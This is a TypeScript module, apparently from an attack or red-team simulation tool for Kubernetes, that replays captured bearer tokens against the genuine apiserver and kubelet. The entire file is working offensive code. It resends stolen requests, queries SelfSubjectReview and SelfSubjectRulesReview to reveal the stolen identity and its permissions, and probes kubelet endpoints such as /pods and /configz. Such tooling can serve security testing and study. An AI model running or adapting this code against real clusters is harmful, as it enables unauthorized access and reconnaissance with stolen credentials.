import type { Endpoint, Host } from '../network/network';
import { readSome } from '../network/read-some';
import { timeLimit } from '../network/time-limit';
import { exchange } from '../network/transport';
import { asksForUpgrade, type HeaderList } from '../wire/http-head';
import { readApiRequest } from './apiserver-request';
import { fieldsIn, isFields, parseFields } from './fields';
import { GenuineEndpoint } from './genuine';
import type { LootBag } from './loot';
import { OpenSockets } from './open-sockets';

/** What one captured bearer token was good for, as the genuine server itself said. */
export interface Replay {
  /** The captured request that was sent again with it; null when there was none that takes a token. */
  readonly request: string | null;
  /** Of the answer; 0 when there was none. */
  readonly status: number;
  /** Whom the server takes the bearer for (SelfSubjectReview); null when it does not say. */
  readonly identity: string | null;
  /** What the server says he may do (SelfSubjectRulesReview), or, of a kubelet, which endpoints it opened to him. */
  readonly allowed: readonly string[];
}

/** A token that the server knows nothing of gets 401, one that may not do this 403: with both, nothing was gained. */
export function replayWorked(replay: Replay): boolean {
  return requestWorked(replay) || replay.identity !== null || replay.allowed.length > 0;
}

export function requestWorked({ request, status }: Replay): boolean {
  return request !== null && status >= 200 && status < 300;
}

const REVIEW = '/apis/authentication.k8s.io/v1/selfsubjectreviews';
const RULES = '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews';
const NAMESPACES = ['default', 'kube-system'];
/** Of a kubelet, from the harmless to the worst that a GET can open. */
const KUBELET_ENDPOINTS = ['/metrics', '/stats/summary', '/pods', '/configz'];

/** A victim can send as many tokens as it likes, and a server can take as long as it likes: neither is waited for. */
const MOST_TOKENS = 8;
const MOST_ANSWER_BYTES = 1024 * 1024;
const MOST_RULES = 100;
const MOST_CHARACTERS = 1000;

export interface ReplayLimits {
  readonly answerMs: number;
  /** For all tokens. */
  readonly altogetherMs: number;
}

const patience: ReplayLimits = { answerMs: 5_000, altogetherMs: 20_000 };

export interface ReplayServers {
  readonly genuine: Endpoint;
  readonly apiserver: Endpoint;
}

/**
 * Goes to the genuine server with the tokens in the loot, from the attacker's own machine and with no certificate: sends
 * a captured request again, then asks the apiserver who it is and what it may do. What it is answered goes into the loot.
 * Never rejects: whatever servers do is an answer.
 */
export async function replayTokens(
  host: Host,
  servers: ReplayServers,
  loot: LootBag,
  limits: ReplayLimits = patience,
): Promise<void> {
  const end = timeLimit(limits.altogetherMs);
  const sendable = loot.credentials.filter(({ value }) => /^[\x21-\x7e]+$/.test(value));
  for (const [index, { value }] of sendable.slice(0, MOST_TOKENS).entries()) {
    if (end.aborted) return;
    const ask = asker(host, servers, () => timeLimit(limits.answerMs, end));
    loot.replays.push(await replayToken(ask, servers, value, loot, `replay-${index}`));
  }
}

async function replayToken(
  ask: Ask,
  { genuine, apiserver }: ReplayServers,
  token: string,
  loot: LootBag,
  lane: string,
): Promise<Replay> {
  const captured = loot.requests.find(
    ({ method, path, headers }) =>
      method === 'GET' &&
      carries(headers, token) &&
      !asksForUpgrade(headers) &&
      // That would never end.
      readApiRequest(path)?.watch !== true,
  );
  const again = captured === undefined ? null : await openedBy(ask, token, captured.path);
  if (again !== null) {
    loot.keep('down', lane, Buffer.from(again.text));
    loot.noteAnswer(again.status).addText(Buffer.from(again.text));
  }
  const identity = usernameOf(await ask({ method: 'POST', path: REVIEW, token, body: selfSubjectReview }));
  const allowed: string[] = [];
  if (genuine.port !== apiserver.port || genuine.address !== apiserver.address) {
    for (const path of KUBELET_ENDPOINTS) {
      const answer = await openedBy(ask, token, path);
      if (answer !== null && isSuccess(answer)) allowed.push(`get ${path} of the kubelet`);
    }
  }
  if (identity !== null) {
    for (const namespace of NAMESPACES) {
      const rules = rulesOf(await ask({ method: 'POST', path: RULES, token, body: rulesReview(namespace) }));
      allowed.push(...rules.filter((rule) => !allowed.includes(rule)));
    }
  }
  return {
    request: captured === undefined || again === null ? null : cut(`GET ${captured.path}`),
    status: again?.status ?? 0,
    identity,
    allowed,
  };
}

/** What is answered to the token; null where whoever comes without one is let in too, which says nothing of the token. */
async function openedBy(ask: Ask, token: string, path: string): Promise<Answer | null> {
  const answer = await ask({ method: 'GET', path, token });
  if (!isSuccess(answer)) return answer;
  return isSuccess(await ask({ method: 'GET', path, token: null })) ? null : answer;
}

const selfSubjectReview = { apiVersion: 'authentication.k8s.io/v1', kind: 'SelfSubjectReview' };

function rulesReview(namespace: string): object {
  return { apiVersion: 'authorization.k8s.io/v1', kind: 'SelfSubjectRulesReview', spec: { namespace } };
}

function carries(headers: HeaderList, token: string): boolean {
  return headers.some(
    ([name, value]) => name.toLowerCase() === 'authorization' && value.replace(/^bearer +/i, '') === token,
  );
}

interface Question {
  readonly method: string;
  readonly path: string;
  readonly token: string | null;
  /** Only the apiserver is asked with one. */
  readonly body?: object;
}

interface Answer {
  /** 0 when there was none. */
  readonly status: number;
  readonly text: string;
}

type Ask = (question: Question) => Promise<Answer>;

function isSuccess({ status }: Answer): boolean {
  return status >= 200 && status < 300;
}

function asker(host: Host, { genuine, apiserver }: ReplayServers, limit: () => AbortSignal): Ask {
  return async (question) => {
    const { method, path, token, body } = question;
    const answer = await askServer(host, body === undefined ? genuine : apiserver, question, limit());
    if (token !== null) {
      host.timeline.record(host.name, null, 'credential-replayed', { method, path, status: answer.status });
    }
    return answer;
  };
}

async function askServer(
  host: Host,
  at: Endpoint,
  { method, path, token, body }: Question,
  signal: AbortSignal,
): Promise<Answer> {
  const held = new OpenSockets();
  const close = (): void => void held.close();
  signal.addEventListener('abort', close, { once: true });
  try {
    const peer = await new GenuineEndpoint(host, at, held).reach({ kind: 'tls', alpn: [] }, signal);
    if (peer.kind === 'refusal') return { status: 0, text: peer.text };
    const content = body === undefined ? undefined : Buffer.from(JSON.stringify(body));
    const headers: (readonly [string, string])[] = [
      ['Host', `${at.address}:${at.port}`],
      ['Accept', 'application/json'],
    ];
    if (token !== null) headers.push(['Authorization', `Bearer ${token}`]);
    if (content !== undefined) {
      headers.push(['Content-Type', 'application/json'], ['Content-Length', String(content.length)]);
    }
    const request = { method, path, headers, ...(content === undefined ? {} : { body: content }) };
    const answer = await exchange(peer, request, signal);
    if (answer.kind === 'refusal') return { status: 0, text: answer.text };
    if (answer.kind === 'upgraded') return { status: answer.status, text: '' };
    return { status: answer.status, text: await readSome(answer.body, MOST_ANSWER_BYTES) };
  } finally {
    signal.removeEventListener('abort', close);
    await held.close();
  }
}

function usernameOf(answer: Answer): string | null {
  if (!isSuccess(answer)) return null;
  const { username } = fieldsIn(statusIn(answer), 'userInfo') as { username?: unknown };
  if (typeof username !== 'string' || username === '' || username === 'system:anonymous') return null;
  return cut(username);
}

/** As `kubectl auth can-i --list` puts it together, without what everybody may: the reviews of oneself. */
function rulesOf(answer: Answer): string[] {
  const { resourceRules } = statusIn(answer) as { resourceRules?: unknown };
  if (!isSuccess(answer) || !Array.isArray(resourceRules)) return [];
  return resourceRules
    .filter(isFields)
    .filter((rule) => !textsIn(rule['resources']).every((it) => it.startsWith('selfsubject')))
    .slice(0, MOST_RULES)
    .map((rule) => {
      const names = textsIn(rule['resourceNames']).join(',');
      const verbs = textsIn(rule['verbs']).join(',');
      return cut(`${verbs} ${textsIn(rule['resources']).join(',')}${names === '' ? '' : ` ${names}`}`);
    });
}

function statusIn({ text }: Answer): ReturnType<typeof fieldsIn> {
  return fieldsIn(parseFields(text) ?? {}, 'status');
}

function textsIn(value: unknown): string[] {
  return Array.isArray(value) ? value.filter((it): it is string => typeof it === 'string') : [];
}

function cut(text: string): string {
  return text.length <= MOST_CHARACTERS ? text : `${text.slice(0, MOST_CHARACTERS)}…`;
}
